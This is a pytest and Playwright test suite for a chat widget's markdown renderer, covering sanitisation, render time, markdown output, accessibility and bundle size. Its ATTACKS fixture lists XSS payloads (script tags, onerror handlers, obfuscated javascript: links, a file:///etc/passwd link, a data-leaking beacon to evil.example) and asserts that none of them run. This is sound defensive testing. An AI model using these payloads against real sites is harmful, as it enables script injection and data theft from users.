"""What an answer may contain, what the widget weighs, and whether everybody can use it."""

import gzip
from pathlib import Path

import pytest
from playwright.sync_api import expect

axe = pytest.importorskip(
    "axe_playwright_python.sync_playwright", reason="the accessibility check needs axe-playwright-python"
)

WIDGET = Path(__file__).parents[2] / "functions" / "widget"
CITATION = {
    "n": 1,
    "url": "https://shop.example/a",
    "title": "Returns",
    "quote": "Within 30 days.",
    "supported": True,
}

ATTACKS = """
<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 2"> <svg onload="window.hacked = 3">
<iframe src="https://evil.example/frame"></iframe> <style>* { display: none }</style> <b onclick="hacked = 4">bold</b>

[a](javascript:window.hacked=5) [b](JaVaScRiPt:window.hacked=6) [c](java\tscript:window.hacked=7) [d](&#106;avascript:hacked)
[e](data:text/html,<script>hacked=8</script>) [f](vbscript:x) [g](file:///etc/passwd) [h](blob:https://evil.example/1)
[i](<javascript:window.hacked=9>) <javascript:window.hacked=10> [j]( javascript:window.hacked=11 "title") [k](\x01javascript:window.hacked=12)

![beacon](https://evil.example/beacon.png?leak=secret) ![x](data:image/svg+xml,<svg/onload=hacked=13>)
[![nested](https://evil.example/nested.png)](javascript:window.hacked=14) **[bold ![i](https://evil.example/i.png)](javascript:hacked)**

| a | b |
|---|---|
| <img src=https://evil.example/table.png> | [x](javascript:window.hacked=15) |

> - 1. > <img src=https://evil.example/list.png onerror=hacked=16>

```html
<img src="https://evil.example/code.png">
```
[ok](https://shop.example/fine) [mail](mailto:a@b.example) [here](/relative) https://shop.example/bare.
"""


def test_an_answer_full_of_attacks_runs_nothing_and_loads_nothing(chat, api, ask, event):
    hostile = {
        "n": 1,
        "url": "javascript:window.hacked=20",
        "title": "<img src=x onerror=hacked=21>",
        "quote": "<script>hacked=22</script>",
        "supported": True,
    }
    api.stream(
        event("status", {"stage": "retrieving", "detail": {"queries": ["<img src=x onerror=hacked=23>"]}}),
        *(event("token", {"text": ATTACKS[i : i + 40]}) for i in range(0, len(ATTACKS), 40)),
        api.done(ATTACKS + " [1]", citations=[hostile], follow_ups=["<img src=x onerror=hacked=24>"]),
    )
    page = chat(
        csp=False, data={"contact-url": "javascript:window.hacked=25"}
    )  # nothing but the widget itself protects here
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    ask(page, "<img src=x onerror=hacked=26>")
    expect(page.get_by_role("button", name="Copy answer")).to_be_attached()
    page.locator("button.marker").click()
    for label in "abcefghijk":
        assert page.locator(".body").get_by_role("link", name=label, exact=True).count() == 0
    links = page.locator(".panel a").evaluate_all("all => all.map((a) => a.href)")
    literal = (
        f"{api.site}/site/&#106;avascript:hacked"  # a relative address like any other: nothing decodes it
    )
    assert literal in links
    assert {link.split(":")[0] for link in links} == {
        "http",
        "https",
        "mailto",
    }  # a link leads somewhere only when it is followed
    assert links[-4:] == [
        "https://shop.example/fine",
        "mailto:a@b.example",
        f"{api.site}/relative",
        "https://shop.example/bare",
    ]
    assert (
        page.locator(".panel")
        .locator("img, iframe, script, style, object, embed, form form, [onerror], [onclick], [src]")
        .count()
        == 0
    )
    expect(page.locator(".body")).to_contain_text("<script>window.hacked = 1</script>")
    assert page.evaluate("window.hacked") is None
    assert [url for url in asked if not url.startswith(api.origin)] == []


HUGE = {
    "backticks": "`" * 70_000,
    "stars": "*a **b " * 12_000,
    "brackets": "[" * 70_000,
    "links": "[a](" * 20_000,
    "quotes": ">" * 70_000,
    "lists": "\n".join(" " * (2 * depth) + "- x" for depth in range(300)),
    "pipes": "|a" * 20_000 + "\n" + "|-" * 20_000,
    "spaces": "# " + " " * 69_000 + "x",
    "underscores": "_ " * 35_000,
    "parentheses": "[a](" + "(" * 65_000,
    "paragraphs": "word [1] **x**\n\n" * 5_000,
    "one word": "x" * 200_000,
    "nested links": "[![a](u)](v) " * 500,
}


def test_no_text_takes_long_to_render(new_page, api):
    page = new_page()
    page.goto(f"{api.origin}/")
    times = page.evaluate(
        """async (texts) => {
          const { createRenderer } = await import('/widget/markdown.js');
          return Object.fromEntries(Object.entries(texts).map(([name, text]) => {
            const started = performance.now();
            createRenderer(document.createElement('div'), (n) => document.createTextNode(n))(text);
            return [name, performance.now() - started];
          }));
        }""",
        HUGE,
    )
    assert {name: took for name, took in times.items() if took > 1500} == {}


MARKDOWN = [
    ("plain & <b>text</b>", '<p dir="auto">plain &amp; &lt;b&gt;text&lt;/b&gt;</p>'),
    (
        "**bold** *it* __b__ _i_ ~~no~~ `a*b`",
        '<p dir="auto"><strong>bold</strong> <em>it</em> <strong>b</strong> <em>i</em> <del>no</del> <code>a*b</code></p>',
    ),
    (
        "***both*** **a *b* c** snake_case_name 2 * 3 * 4",
        '<p dir="auto"><strong><em>both</em></strong> <strong>a <em>b</em> c</strong> snake_case_name 2 * 3 * 4</p>',
    ),
    (r"\*no\* **open", '<p dir="auto">*no* **open</p>'),
    ("## Title", '<h4 dir="auto">Title</h4>'),
    ("a\nb  \nc", '<p dir="auto">a\nb<br>c</p>'),
    ("---", "<hr>"),
    (
        "- a\n- b\n  - c\n\n- d",
        '<ul dir="auto"><li>a</li><li>b<ul dir="auto"><li>c</li></ul></li><li>d</li></ul>',
    ),
    ("3. a\n4. b", '<ol dir="auto" start="3"><li>a</li><li>b</li></ol>'),
    ("> a\n> b", '<blockquote dir="auto"><p dir="auto">a\nb</p></blockquote>'),
    (
        "```js\n<x>\n\n*y*\n```\nz",
        '<pre dir="ltr" tabindex="0"><code>&lt;x&gt;\n\n*y*</code></pre><p dir="auto">z</p>',
    ),
    ("a [1][2], [1, 2] [9]", '<p dir="auto">a <i>1</i><i>2</i>, <i>1</i><i>2</i> [9]</p>'),
    ("![alt](https://x.example/a.png)", '<p dir="auto">alt</p>'),
    (
        "[t](https://x.example/a_(b))",
        '<p dir="auto"><a href="https://x.example/a_(b)" target="_blank" rel="noopener noreferrer">t</a></p>',
    ),
    (
        "x [![n](u)](https://x.example/) ![m](u) y",
        '<p dir="auto">x <a href="https://x.example/" target="_blank" rel="noopener noreferrer">n</a> m y</p>',
    ),
    (
        "(see https://x.example/a).",
        '<p dir="auto">(see <a href="https://x.example/a" target="_blank" rel="noopener noreferrer">https://x.example/a</a>).</p>',
    ),
]


@pytest.fixture
def render(new_page, api):
    page = new_page()
    page.goto(f"{api.origin}/")
    return lambda texts: page.evaluate(
        """async (texts) => {
          const { createRenderer } = await import('/widget/markdown.js');
          const cite = (n) => { if (n > 2) return null; const i = document.createElement('i'); i.textContent = n; return i };
          return texts.map((text) => { const box = document.createElement('div'); createRenderer(box, cite)(text); return box.innerHTML });
        }""",
        texts,
    )


def test_markdown(render):
    assert render([source for source, _ in MARKDOWN]) == [html for _, html in MARKDOWN]


def test_a_table(render):
    assert render(["| a | b |\n|---|:-:|\n| 1 | **2** |\n\nafter"]) == [
        '<div class="table" tabindex="0"><table dir="auto"><thead><tr><th>a</th><th>b</th></tr></thead>'
        '<tbody><tr><td>1</td><td><strong>2</strong></td></tr></tbody></table></div><p dir="auto">after</p>'
    ]


def test_streaming_keeps_the_blocks_that_did_not_change(new_page, api):
    page = new_page()
    page.goto(f"{api.origin}/")
    assert page.evaluate("""async () => {
      const { createRenderer } = await import('/widget/markdown.js');
      const box = document.createElement('div');
      const render = createRenderer(box, () => null);
      render('first\\n\\nsec');
      const first = box.firstChild;
      render('first\\n\\nsecond');
      return [box.firstChild === first, box.textContent];
    }""") == [True, "firstsecond"]


def assert_accessible(page):
    """In both colour schemes."""
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        results = axe.Axe().run(page)
        assert results.violations_count == 0, f"{scheme}: {results.generate_report()}"


@pytest.mark.parametrize("state", ["closed", "welcome", "answer", "error"])
def test_axe_finds_nothing(chat, visit, api, ask, refuse, state):
    options = {"data": {"starters": "One?|Two?", "contact-url": "/contact"}, "csp": False}
    page = visit(**options) if state == "closed" else chat(**options)
    if state == "answer":
        api.answer(
            "# Title\n\n**Within** `30` days [1].\n\n> quote\n\n| a |\n|---|\n| b |",
            citations=[CITATION],
            verdict="partial",
            follow_ups=["More?"],
        )
        ask(page, "How long?")
        page.get_by_role("button", name="Good answer").click()
        page.get_by_role("button", name="Source 1: Returns").click()
        expect(page.locator(".card")).to_be_visible()
    elif state == "error":
        api.will("/chat", refuse(500, "internal"))
        ask(page, "How long?")
        expect(page.locator(".notice")).to_be_visible()
    assert_accessible(page)


def test_axe_finds_nothing_on_the_demo_page(new_page, api):
    page = new_page()
    page.goto(f"{api.origin}/")
    page.locator("summary").click()
    expect(page.locator("portavoz-search input")).to_be_visible()
    assert_accessible(page)


def packed(*files: Path) -> int:
    return sum(len(gzip.compress(file.read_bytes(), 9)) for file in files)


def test_sizes():
    scripts = [file for file in WIDGET.glob("*.js") if file.name != "page.js"]
    assert packed(WIDGET / "widget.js") < 6 * 1024
    assert packed(*scripts) < 30 * 1024
